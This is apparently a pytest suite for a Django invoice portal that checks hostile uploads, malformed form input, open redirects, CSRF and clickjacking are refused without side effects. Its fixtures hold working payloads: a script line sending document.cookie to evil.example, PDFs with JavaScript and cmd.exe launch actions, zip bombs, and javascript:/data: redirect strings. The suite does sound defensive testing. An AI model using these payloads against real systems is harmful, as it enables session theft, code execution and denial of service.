"""Hostile input, as a pentester and a stolen staff session would send it.

Uploads (admin and ``manage.py add_invoice``): polyglots, active PDF content, zip bombs,
empty and oversize files. Forms: 1 MB strings, NUL bytes, invalid UTF-8. Every ``next``
parameter: open redirects. Every route: CSRF and clickjacking, found by walking the
URLconf so that a route added later is covered without anyone remembering to.

The rule for each: a clear 4xx or form error, never a 500, and nothing left behind (no
row, no file in the private directory, no mail, no changed account).
"""

from __future__ import annotations

import html
import io
import re
import time
import tracemalloc
import uuid
import zipfile
import zlib
from functools import cache
from urllib.parse import parse_qs, urljoin, urlsplit

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import Resolver404, URLPattern, URLResolver, get_resolver, resolve, reverse
from django_otp import DEVICE_ID_SESSION_KEY
from django_otp.oath import TOTP
from django_otp.plugins.otp_totp.models import TOTPDevice

from audit.models import AuditEvent, EventKind
from clients.models import Client, User
from clients.services import invitation_create
from invoices.models import Invoice
from invoices.pdfcheck import check_pdf
from tests.conftest import HttpsClient, verify_second_factor
from tests.factories import PASSWORD, make_client, make_contact, make_invoice, make_staff, pdf_bytes

pytestmark = pytest.mark.django_db


def _web(user: User | None = None, *, verified: bool = False, **kwargs) -> HttpsClient:
    """A client that shows a server error as the 500 a browser would get, not as a raised
    exception, so that "never a 500" is what is asserted."""
    web = HttpsClient(raise_request_exception=False, **kwargs)
    if user is not None:
        web.force_login(user)
        if verified:
            verify_second_factor(web, user)
    return web


# ---------------------------------------------------------------------------------------
# Hostile files
# ---------------------------------------------------------------------------------------


def raw_pdf(*, catalog: bytes = b"", page: bytes = b"", content: bytes = b"", extra=()) -> bytes:
    """A minimal, well-formed one-page PDF with a correct xref; hooks to add what the
    attacker wants in the catalog, the page, the content stream and further objects."""
    stream = content or b"<< /Length 0 >>\nstream\n\nendstream"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " + page + b">>",
        stream,
        *extra,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _zip(name: str, payload: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, payload)
    return buffer.getvalue()


@cache
def _deflated_zeros(megabytes: int = 128) -> bytes:
    """128 MiB of zeros in ~130 KB: the payload of both bombs below."""
    packer, chunk = zlib.compressobj(1), bytes(1 << 20)
    return b"".join([*(packer.compress(chunk) for _ in range(megabytes)), packer.flush()])


@cache
def zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("invoice.pdf", "w") as inner,
    ):
        for _ in range(128):
            inner.write(bytes(1 << 20))
    return buffer.getvalue()


def _restated_trailer(pdf: bytes) -> bytes:
    xref = int(pdf.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    return b"\nstartxref\n%d\n%%%%EOF\n" % xref


JS_ACTION = b'<< /Type /Action /S /JavaScript /JS (app.launchURL\\("https://evil.example"\\)) >>'
LAUNCH_ACTION = b"<< /Type /Action /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,"
GIF += b"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"

# name -> (content, what the refusal says). Refused today, by the header and EOF checks.
REFUSED_FILES = {
    "html-js-prefix-polyglot": (
        b"<html><script>fetch('https://evil.example/?'+document.cookie)</script></html>\n"
        + pdf_bytes(),
        "not a PDF",
    ),
    "gifar": (GIF + _zip("META-INF/MANIFEST.MF", b"Main-Class: Evil\n"), "not a PDF"),
    "zip-bomb-renamed-pdf": (zip_bomb(), "not a PDF"),
    "zero-bytes": (b"", "empty"),
}
# Accepted today: structure alone is checked, and these are well-formed PDFs.
POLYGLOT_PDFS = {
    "pdf-then-small-zip": raw_pdf() + _zip("evil.exe", b"MZ" + bytes(200)),
    "pdf-then-large-zip-and-restated-trailer": raw_pdf()
    + _zip("evil.exe", bytes(range(256)) * 400)
    + _restated_trailer(raw_pdf()),
}
ACTIVE_PDFS = {
    "javascript-open-action": raw_pdf(catalog=b"/OpenAction 5 0 R ", extra=[JS_ACTION]),
    "launch-open-action": raw_pdf(catalog=b"/OpenAction 5 0 R ", extra=[LAUNCH_ACTION]),
    "javascript-name-tree": raw_pdf(
        catalog=b"/Names << /JavaScript << /Names [(x) 5 0 R] >> >> ", extra=[JS_ACTION]
    ),
    "page-open-javascript": raw_pdf(page=b"/AA << /O 5 0 R >> ", extra=[JS_ACTION]),
}


def _files(private_dir) -> list[str]:
    return sorted(p.name for p in private_dir.iterdir()) if private_dir.exists() else []


def _upload_through_admin(content: bytes, filename: str = "invoice.pdf", **over: str):
    client = make_client()
    web = _web(make_staff(), verified=True)
    fields = {
        "client": client.pk,
        "number": "HOST-1",
        "issue_date": "2026-11-01",
        "due_date": "2026-12-01",
        "total": "100.00",
        "currency": "EUR",
        "issue_now": "on",
        "pdf": SimpleUploadedFile(filename, content, "application/pdf"),
        **over,
    }
    response = web.post(reverse("admin:invoices_invoice_add"), fields)
    assert response.status_code != 500
    refused = response.status_code >= 400 or b"errorlist" in response.content
    return refused, response.content.decode(errors="replace")


def _upload_through_command(tmp_path, content: bytes, **over: str):
    contact = make_contact(make_client(), email=f"ap-{uuid.uuid4().hex[:8]}@acme.example")
    path = tmp_path / "upload.pdf"
    path.write_bytes(content)
    args = {
        "--client-email": contact.email,
        "--number": "HOST-1",
        "--issued": "2026-11-01",
        "--due": "2026-12-01",
        "--total": "100.00",
        "--currency": "EUR",
        **over,
    }
    try:
        call_command("add_invoice", str(path), *[x for pair in args.items() for x in pair])
    except CommandError as exc:
        return True, str(exc)
    return False, ""


UPLOADERS = ["admin", "command"]


def _upload(way: str, tmp_path, content: bytes, **over: str):
    if way == "admin":
        return _upload_through_admin(content, **{k.lstrip("-"): v for k, v in over.items()})
    return _upload_through_command(tmp_path, content, **over)


def _assert_nothing_left(private_dir) -> None:
    assert Invoice.objects.count() == 0
    assert _files(private_dir) == []  # also no ".part" temporary file


@pytest.mark.parametrize("way", UPLOADERS)
@pytest.mark.parametrize("kind", sorted(REFUSED_FILES))
def test_hostile_files_are_refused_and_leave_nothing(kind, way, tmp_path, private_dir):
    content, message = REFUSED_FILES[kind]
    refused, text = _upload(way, tmp_path, content)
    assert refused and message in text
    _assert_nothing_left(private_dir)


@pytest.mark.parametrize("way", UPLOADERS)
def test_one_byte_over_the_cap_is_refused(way, tmp_path, private_dir, settings):
    content = pdf_bytes()
    settings.MAX_UPLOAD_BYTES = len(content) - 1
    refused, text = _upload(way, tmp_path, content)
    assert refused and "larger than the limit" in text
    _assert_nothing_left(private_dir)


def test_a_body_far_over_the_cap_is_answered_413_before_it_is_read(private_dir, settings):
    settings.MAX_UPLOAD_BYTES = 4096
    refused, text = _upload_through_admin(pdf_bytes() + b"%" * (1024 * 1024 + 8192))
    assert refused and "Upload too large" in text and "Nothing was stored" in text
    _assert_nothing_left(private_dir)


@pytest.mark.parametrize("way", UPLOADERS)
@pytest.mark.parametrize("kind", sorted(POLYGLOT_PDFS))
def test_pdf_zip_polyglots_are_refused(kind, way, tmp_path, private_dir):
    refused, _text = _upload(way, tmp_path, POLYGLOT_PDFS[kind])
    assert refused
    _assert_nothing_left(private_dir)


@pytest.mark.parametrize("way", UPLOADERS)
@pytest.mark.parametrize("kind", sorted(ACTIVE_PDFS))
def test_refuses_pdfs_with_javascript_or_launch_actions(kind, way, tmp_path, private_dir):
    refused, _text = _upload(way, tmp_path, ACTIVE_PDFS[kind])
    assert refused
    _assert_nothing_left(private_dir)


def test_a_deflate_bomb_inside_a_pdf_is_checked_without_being_inflated():
    """The check parses structure; it never inflates content streams, so 128 MiB of
    compressed zeros cost neither time nor memory. (The file itself is a valid PDF.)"""
    bomb = _deflated_zeros()
    content = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(bomb), bomb)
    tracemalloc.start()
    # CPU time of this process, not the wall clock: other work on a busy machine stretches
    # the latter, hardly the former.
    started = time.process_time()
    try:
        assert check_pdf(io.BytesIO(raw_pdf(content=content))) == 1
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert time.process_time() - started < 5
    assert peak < 16 * 1024 * 1024


def test_command_refuses_a_number_that_differs_only_by_a_trailing_newline(tmp_path, private_dir):
    first = make_invoice(make_client(), number="HOST-1")
    refused, _text = _upload_through_command(tmp_path, pdf_bytes(), **{"--number": "HOST-1\n"})
    assert refused
    assert list(Invoice.objects.values_list("number", flat=True)) == ["HOST-1"]
    assert _files(private_dir) == [first.pdf_name]


def test_command_refuses_a_currency_with_a_trailing_newline(tmp_path, private_dir):
    refused, _text = _upload_through_command(tmp_path, pdf_bytes(), **{"--currency": "EUR\n"})
    assert refused
    _assert_nothing_left(private_dir)


# ---------------------------------------------------------------------------------------
# Hostile form fields: 1 MB strings, NUL bytes, invalid UTF-8
# ---------------------------------------------------------------------------------------


MEGABYTE = "A" * 1_000_000
PAYLOADS = {
    "1mb-string": lambda value: MEGABYTE if "@" not in value else MEGABYTE + "@acme.example",
    "nul-byte": lambda value: value[:2] + "\x00" + value[2:],
}
RAW_BODIES = {  # not even UTF-8: the bytes are sent as they are
    "invalid-utf8": b"\xff\xfe\xc3\x28\xa0\xa1",
    "invalid-utf8-percent-encoded": b"%FF%FE%C3%28%ED%A0%80",
}


# Each target: (client, path, fields the attack replaces, fields kept as they are, a check
# that nothing changed).


def _not_logged_in(web) -> bool:
    return "_auth_user_id" not in web.session


def _login_target():
    user = make_contact(email="ap@acme.example")
    fields = {"username": user.email, "password": PASSWORD}
    return _web(), "/accounts/login/", fields, {}, _not_logged_in


def _login_real_address_target():
    """Only the password is hostile, so the hashers and the lockout really run."""
    user = make_contact(email="ap@acme.example")
    fields = {"password": PASSWORD}
    return _web(), "/accounts/login/", fields, {"username": user.email}, _not_logged_in


def _invitation_target():
    user = User.objects.create_user(email="new@acme.example", client=make_client())
    invitation, token = invitation_create(user=user)

    def unchanged(web):
        invitation.refresh_from_db()
        user.refresh_from_db()
        return invitation.used_at is None and not user.has_usable_password()

    fields = {"password1": "a fine long passphrase 9", "password2": "a fine long passphrase 9"}
    return _web(), f"/invite/{token}/", fields, {}, unchanged


def _password_reset_target():
    user = make_contact(email="ap@acme.example")

    def unchanged(web):
        requested = AuditEvent.objects.filter(kind=EventKind.PASSWORD_RESET_REQUESTED)
        return not mail.outbox and not requested.exists()

    return _web(), "/accounts/password-reset/", {"email": user.email}, {}, unchanged


def current_code(device: TOTPDevice) -> str:
    totp = TOTP(device.bin_key, device.step, device.t0, device.digits, device.drift)
    return f"{totp.token():0{device.digits}d}"


def _otp_verify_target():
    user = make_contact(email="ap@acme.example")
    device = TOTPDevice.objects.create(user=user, name="phone", confirmed=True)
    web = _web(user)
    return (
        web,
        "/accounts/2fa/",
        {"otp_token": current_code(device)},
        {},
        (lambda web: DEVICE_ID_SESSION_KEY not in web.session),
    )


def _email_change_target():
    user = make_contact(email="ap@acme.example")
    fields = {"email": "new@acme.example", "password": PASSWORD}
    return (
        _web(user, verified=True),
        "/account/email/",
        fields,
        {},
        # Step one of the change (the link to the new address) is the state change here.
        (lambda web: not AuditEvent.objects.filter(kind=EventKind.EMAIL_CHANGE_REQUESTED).exists()),
    )


def _admin_client_target():
    before = Client.objects.count()
    fields = {
        "name": "Hostile GmbH",
        "billing_email": "ap@hostile.example",
        "address": "Street 1",
        "tax_id": "DE123",
        "is_active": "on",
    }
    management = {"contacts-TOTAL_FORMS": "0", "contacts-INITIAL_FORMS": "0"}
    return (
        _web(make_staff(), verified=True),
        reverse("admin:clients_client_add"),
        fields,
        management,
        (lambda web: Client.objects.count() == before),
    )


def _admin_invoice_target():
    client = make_client()
    fields = {
        "client": str(client.pk),
        "number": "HOST-1",
        "issue_date": "2026-11-01",
        "due_date": "2026-12-01",
        "total": "100.00",
        "currency": "EUR",
    }
    return (
        _web(make_staff(), verified=True),
        reverse("admin:invoices_invoice_add"),
        fields,
        {},
        (lambda web: not Invoice.objects.exists()),
    )


FORM_TARGETS = {
    "login": _login_target,
    "login-real-address": _login_real_address_target,
    "invitation": _invitation_target,
    "password-reset": _password_reset_target,
    "2fa-verify": _otp_verify_target,
    "email-change": _email_change_target,
    "admin-client": _admin_client_target,
    "admin-invoice": _admin_invoice_target,
}


def _assert_refused_cleanly(response) -> None:
    assert response.status_code != 500
    assert response.status_code in {400, 403, 404, 413, 429} or (
        response.status_code == 200 and b"errorlist" in response.content
    ), (response.status_code, response.content[:300])


@pytest.mark.parametrize("payload", sorted(PAYLOADS))
@pytest.mark.parametrize("target", sorted(FORM_TARGETS))
def test_hostile_field_values_get_a_form_error_and_store_nothing(target, payload, private_dir):
    web, path, fields, fixed, unchanged = FORM_TARGETS[target]()
    hostile = {**fixed, **{name: PAYLOADS[payload](value) for name, value in fields.items()}}
    if target == "admin-invoice":
        hostile["pdf"] = SimpleUploadedFile("x.pdf", pdf_bytes(), "application/pdf")
    _assert_refused_cleanly(web.post(path, hostile))
    assert unchanged(web)
    assert _files(private_dir) == []


@pytest.mark.parametrize("target", sorted(FORM_TARGETS))
def test_control_the_same_forms_with_plain_values_do_change_state(target):
    """Without this, "nothing changed" could be true because nothing ever can."""
    web, path, fields, fixed, unchanged = FORM_TARGETS[target]()
    fields = {**fixed, **fields}
    if target == "admin-invoice":
        fields["pdf"] = SimpleUploadedFile("x.pdf", pdf_bytes(), "application/pdf")
    response = web.post(path, fields)
    assert response.status_code in {200, 302}
    assert not unchanged(web)


@pytest.mark.parametrize("body", sorted(RAW_BODIES))
@pytest.mark.parametrize("target", sorted(FORM_TARGETS))
def test_invalid_utf8_bodies_get_a_form_error_and_store_nothing(target, body, private_dir):
    web, path, fields, fixed, unchanged = FORM_TARGETS[target]()
    raw = b"&".join(
        [f"{name}={value}".encode() for name, value in fixed.items()]
        + [name.encode() + b"=" + RAW_BODIES[body] for name in fields]
    )
    response = web.generic("POST", path, raw, "application/x-www-form-urlencoded")
    _assert_refused_cleanly(response)
    assert unchanged(web)


@pytest.mark.parametrize(
    "path",
    [
        "/d/%00/",
        "/d/%FF%FE/",
        "/v/%C3%28/",
        "/invite/%00%00/",
        "/invite/" + "A" * 10_000 + "/",
        "/accounts/reset/%FF/%00/",
        "/invoices/%00/",
        "/accounts/login/?next=%FF%00",
    ],
)
def test_hostile_bytes_in_urls_never_cause_a_server_error(path):
    contact = make_contact()
    for web in (_web(), _web(contact, verified=True)):
        assert web.get(path).status_code in {200, 302, 400, 404}


@pytest.mark.parametrize(
    "query",
    [
        "older=%00",
        "newer=%FF%FE",
        "older=" + "A" * 4000,
        "older=1",
        "newer=-1",
        "older=",
        "older=00000000-0000-0000-0000-000000000000",
        "older={foreign}",
        "newer={foreign}",
        "older={own}&newer={own}",
        "older={own}&page=last",
    ],
)
def test_tampered_history_cursors_are_a_404_never_a_500(query):
    """The history's page links name an invoice (invoices/views.py): anything but one of
    the contact's own listed invoices, or two cursors at once, is the portal's usual 404."""
    contact = make_contact()
    own = make_invoice(contact.client).public_id
    foreign = make_invoice(make_client()).public_id
    web = _web(contact, verified=True)
    url = f"{reverse('invoice-list')}?{query.format(own=own, foreign=foreign)}"
    assert web.get(url).status_code == 404
    assert web.get(f"{reverse('invoice-list')}?older={own}").status_code == 200


@pytest.mark.parametrize("query", ["page=%00", "page=last%00", "page=" + "9" * 4000, "page=-1"])
def test_hostile_history_page_numbers_give_the_first_page(query):
    contact = make_contact()
    number = make_invoice(contact.client).number
    response = _web(contact, verified=True).get(f"{reverse('invoice-list')}?{query}")
    assert response.status_code == 200 and number.encode() in response.content


def _admin_changelists_answering(queries: list[str]) -> list[tuple[str, str, int]]:
    web = _web(make_staff(), verified=True)
    changelists = [n for n, _e, _t in url_routes() if n and n.endswith("_changelist")]
    assert len(changelists) > 10
    failures = []
    for name in changelists:
        for query in queries:
            status = web.get(f"{reverse(name)}?{query}").status_code
            if status not in {200, 302, 400}:
                failures.append((name, query[:20], status))
    return failures


def test_admin_search_and_filters_survive_hostile_query_strings():
    """Every changelist of the admin, searched and filtered with NUL bytes (PostgreSQL
    refuses NUL in text: it must never reach a query), invalid UTF-8, and a search as long
    as gunicorn's request line lets through (deploy/gunicorn.conf.py: limit_request_line),
    which is over the admin's cap on search terms and gets its 400."""
    queries = ["q=%00", "q=a%00b", "q=%FF%FE", "q=" + "A" * 4000, "o=%00", "p=%00", "e=%00"]
    assert _admin_changelists_answering(queries) == []


def test_admin_search_with_a_huge_term_is_a_clear_400_not_a_server_error():
    """60,000 characters: past SQLite's LIKE-pattern limit (a 500 before the cap), and past
    gunicorn's request line, which the admin must not rely on."""
    assert _admin_changelists_answering(["q=" + "A" * 60_000]) == []
    web = _web(make_staff(), verified=True)
    response = web.get(reverse("admin:audit_auditevent_changelist") + "?q=" + "A" * 60_000)
    assert response.status_code == 400
    assert "Search too long" in response.content.decode()
    assert "at most 1000 characters long; this one had 60000" in response.content.decode()
    fits = web.get(reverse("admin:audit_auditevent_changelist") + "?q=" + "A" * 1000)
    assert fits.status_code == 200


# ---------------------------------------------------------------------------------------
# Open redirects through every `next`
# ---------------------------------------------------------------------------------------

OFF_SITE = [
    "//evil.example",
    "///evil.example",
    "https://evil.example/",
    "http://evil.example",
    "https:evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "\t//evil.example",
    "/\t/evil.example",
    " //evil.example",
    "https://testserver@evil.example/",
    "https://evil.example\\@testserver/",
    "http://testserver/invoices/",  # a downgrade to plain HTTP is off-site too
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "%2F%2Fevil.example",
    "/%2F%2Fevil.example",
    "/%09/evil.example",
]
ON_SITE = "/invoices/?page=2"


def browser_target(location: str, base: str = "https://testserver/accounts/login/") -> str:
    """Where a browser goes for this Location: it strips C0 and space at the ends and tabs
    and newlines inside, and reads a backslash as a slash (WHATWG URL)."""
    cleaned = re.sub(r"[\t\n\r]", "", location.strip("\x00\x01\x02 ")).replace("\\", "/")
    return urljoin(base, cleaned)


def assert_on_site(location: str) -> None:
    target = urlsplit(browser_target(location))
    assert target.scheme == "https" and target.hostname == "testserver", location
    assert target.username is None, location


def _hidden_next(response) -> str:
    found = re.search(r'name="next" value="([^"]*)"', response.content.decode())
    return html.unescape(found.group(1)) if found else ""


def _enrolling_contact():
    user = make_contact(make_client(requires_2fa=True))
    return user, _web(user)


def redirect_via_login_post(nxt: str) -> str:
    user = make_contact()
    web = _web()
    response = web.post(
        "/accounts/login/", {"username": user.email, "password": PASSWORD, "next": nxt}
    )
    assert response.status_code == 302
    return response["Location"]


def redirect_via_login_when_logged_in(nxt: str) -> str:
    response = _web(make_contact(), verified=True).get("/accounts/login/", {"next": nxt})
    assert response.status_code == 302
    return response["Location"]


def redirect_via_login_form(nxt: str) -> str:
    return _hidden_next(_web().get("/accounts/login/", {"next": nxt})) or "/"


def redirect_via_otp_verify(nxt: str) -> str:
    user = make_contact()
    device = TOTPDevice.objects.create(user=user, name="phone", confirmed=True)
    web = _web(user)
    assert_on_site(_hidden_next(web.get("/accounts/2fa/", {"next": nxt})) or "/")
    response = web.post("/accounts/2fa/", {"otp_token": current_code(device), "next": nxt})
    assert response.status_code == 302
    return response["Location"]


def redirect_via_otp_setup(nxt: str) -> str:
    user, web = _enrolling_contact()
    assert_on_site(_hidden_next(web.get("/account/2fa/setup/", {"next": nxt})) or "/")
    device = TOTPDevice.objects.get(user=user, confirmed=False)
    response = web.post("/account/2fa/setup/", {"otp_token": current_code(device), "next": nxt})
    assert response.status_code == 200 and b"backup" in response.content.lower()
    link = re.search(r'class="button" href="([^"]*)"', response.content.decode())
    return html.unescape(link.group(1))


def redirect_via_admin_login(nxt: str) -> str:
    response = _web().get("/admin/login/", {"next": nxt})
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")
    return parse_qs(urlsplit(response["Location"]).query).get("next", ["/"])[0]


def redirect_via_logout(nxt: str) -> str:
    response = _web(make_contact(), verified=True).post("/accounts/logout/", {"next": nxt})
    assert response.status_code == 302
    return response["Location"]


NEXT_ENTRY_POINTS = {
    "login-post": redirect_via_login_post,
    "login-when-logged-in": redirect_via_login_when_logged_in,
    "login-form": redirect_via_login_form,
    "2fa-verify": redirect_via_otp_verify,
    "2fa-setup": redirect_via_otp_setup,
    "admin-login": redirect_via_admin_login,
    "logout": redirect_via_logout,
}


@pytest.mark.parametrize("nxt", OFF_SITE)
@pytest.mark.parametrize("entry", sorted(NEXT_ENTRY_POINTS))
def test_next_never_leads_off_site(entry, nxt):
    assert_on_site(NEXT_ENTRY_POINTS[entry](nxt))


@pytest.mark.parametrize("entry", sorted(NEXT_ENTRY_POINTS))
def test_control_an_on_site_next_is_followed(entry):
    assert NEXT_ENTRY_POINTS[entry](ON_SITE) == ON_SITE


# ---------------------------------------------------------------------------------------
# The whole URLconf: CSRF on every POST, clickjacking on every page
# ---------------------------------------------------------------------------------------


def url_routes(patterns=None, namespace: str | None = None, prefix: str = "/"):
    """(name, pattern, route text) for every route, the admin's included."""
    for entry in get_resolver().url_patterns if patterns is None else patterns:
        text = prefix + str(entry.pattern)
        if isinstance(entry, URLResolver):
            inner = ":".join(filter(None, [namespace, entry.namespace])) or None
            yield from url_routes(entry.url_patterns, inner, text)
        elif isinstance(entry, URLPattern):
            name = entry.name and (f"{namespace}:{entry.name}" if namespace else entry.name)
            yield name, entry, text


def _route_paths(invoice: Invoice) -> list[tuple[str, str]]:
    """A concrete path per route. A parameter nobody gave a sample for fails here: the new
    route must be looked at, not silently skipped."""
    samples = {
        "public_id": invoice.public_id,
        "token": "A" * 43,
        "uidb64": "MQ",
        "object_id": "1",
        "pk": 1,
        "id": "1",
        "content_type_id": "1",
        "app_label": "clients",
        "url": "no-such-page/",
    }
    paths = []
    for name, entry, text in url_routes():
        params = list(getattr(entry.pattern, "converters", {})) or list(
            entry.pattern.regex.groupindex
        )
        missing = [p for p in params if p not in samples]
        assert not missing, f"route {name or text} has unclassified parameters {missing}"
        if name:
            paths.append((name, reverse(name, kwargs={p: samples[p] for p in params})))
        elif text.endswith("(?P<url>.*)$"):  # the admin's catch-all
            paths.append((text, text.replace("(?P<url>.*)$", samples["url"])))
        else:  # unnamed, e.g. the admin's old-style "<object_id>/" redirect
            fill = re.sub(r"<(?:\w+:)?(\w+)>", lambda m: str(samples[m.group(1)]), text)
            assert resolve_path(fill), text
            paths.append((text, fill))
    return paths


def resolve_path(path: str) -> bool:
    try:
        resolve(path)
    except Resolver404:
        return False
    return True


def _people():
    client = make_client()
    contact = make_contact(client)
    invoice = make_invoice(client)
    return invoice, {
        "anonymous": lambda **kw: _web(**kw),
        "contact": lambda **kw: _web(contact, verified=True, **kw),
        "staff": lambda **kw: _web(make_staff(), verified=True, **kw),
    }


CSRF_PAGE = b"This form could not be accepted"


def test_no_view_in_the_urlconf_is_exempt_from_csrf():
    exempt = [text for _n, entry, text in url_routes() if getattr(entry.callback, "csrf_exempt", 0)]
    assert exempt == []


def test_every_route_refuses_a_post_without_a_csrf_token():
    """Whatever the view, state-changing or not, a logged-in verified user's POST without a
    token gets the friendly 403 before the view runs."""
    invoice, people = _people()
    failures = []
    for who in ("contact", "staff"):
        web = people[who](enforce_csrf_checks=True)
        for name, path in _route_paths(invoice):
            response = web.post(path, {"anything": "1"}, HTTP_REFERER="https://testserver/")
            if response.status_code != 403 or CSRF_PAGE not in response.content:
                failures.append((who, name, path, response.status_code))
    assert failures == []


STATE_CHANGING = {
    "logout-everywhere": lambda invoice: reverse("logout-everywhere"),
    "invoice-download-link": lambda invoice: reverse(
        "invoice-download-link", args=[invoice.public_id]
    ),
    "email-change": lambda invoice: reverse("email-change"),
    "logout": lambda invoice: reverse("logout"),
}


@pytest.mark.parametrize("view", sorted(STATE_CHANGING))
def test_a_cross_site_post_is_refused_even_with_a_stolen_token(view):
    """The token alone is not enough over HTTPS: the Origin must be this site."""
    invoice, people = _people()
    web = people["contact"](enforce_csrf_checks=True)
    web.get("/account/")
    token = web.cookies["__Host-csrftoken"].value
    path = STATE_CHANGING[view](invoice)
    forged = web.post(path, {"csrfmiddlewaretoken": token}, HTTP_ORIGIN="https://evil.example")
    assert forged.status_code == 403 and CSRF_PAGE in forged.content
    # Control: the same POST from the site itself passes the check.
    genuine = web.post(path, {"csrfmiddlewaretoken": token}, HTTP_ORIGIN="https://testserver")
    assert CSRF_PAGE not in genuine.content and genuine.status_code in {200, 302}


@pytest.mark.parametrize("view", ["logout-everywhere", "invoice-download-link", "logout"])
def test_state_changing_views_refuse_get(view):
    invoice, people = _people()
    assert people["contact"]().get(STATE_CHANGING[view](invoice)).status_code == 405


def test_every_response_forbids_framing():
    """Clickjacking: every route, for every kind of visitor, whatever the status."""
    invoice, people = _people()
    failures = []
    for who, make_web in people.items():
        web = make_web()
        for name, path in _route_paths(invoice):
            r = web.get(path)
            csp = r.get("Content-Security-Policy", "")
            if (
                r.status_code == 500
                or r.get("X-Frame-Options") != "DENY"
                or "frame-ancestors 'none'" not in csp
            ):
                failures.append((who, name, path, r.status_code))
            if r.streaming:  # through the client's wrapper, which keeps the test database open
                b"".join(r.streaming_content)
    assert failures == []
